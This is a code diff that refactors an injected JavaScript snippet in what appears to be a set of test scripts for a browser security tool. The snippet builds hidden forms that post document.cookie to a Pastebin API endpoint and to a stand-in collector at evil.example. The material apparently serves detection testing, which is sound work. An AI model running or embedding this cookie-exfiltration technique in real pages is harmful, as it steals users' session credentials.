@@ -501,30 +501,28 @@ export const MAIN_WORLD_SCRIPTS = {
 
   /** Posts hidden forms: one to a paste site, one by requestSubmit(button) whose formaction is a collector. */
   'form-post': `(() => {
-  const form = document.createElement('form');
-  form.method = 'POST';
-  form.action = 'https://pastebin.com/api/api_post.php';
-  form.target = 'helper-sink';
   const frame = document.createElement('iframe');
   frame.name = 'helper-sink';
   frame.hidden = true;
-  const field = document.createElement('input');
-  field.name = 'api_paste_code';
-  field.value = document.cookie;
-  form.appendChild(field);
-  document.body.append(frame, form);
-  form.submit();
+  document.body.append(frame);
+  const hidden = (action) => {
+    const form = document.createElement('form');
+    form.method = 'POST';
+    form.action = action;
+    form.target = 'helper-sink';
+    const field = document.createElement('input');
+    field.name = 'api_paste_code';
+    field.value = document.cookie;
+    form.appendChild(field);
+    document.body.append(form);
+    return form;
+  };
+  hidden('https://pastebin.com/api/api_post.php').submit();
   // The shop's own action on the form, the collector on its button's formaction (which overrides it).
-  const second = document.createElement('form');
-  second.method = 'POST';
-  second.action = '/kz/search';
-  second.target = 'helper-sink';
+  const second = hidden('/kz/search');
   const button = document.createElement('button');
   button.formAction = 'https://evil.example/formaction';
-  const copy = field.cloneNode();
-  copy.value = document.cookie;
-  second.append(copy, button);
-  document.body.append(second);
+  second.append(button);
   second.requestSubmit(button);
 })();`,
 
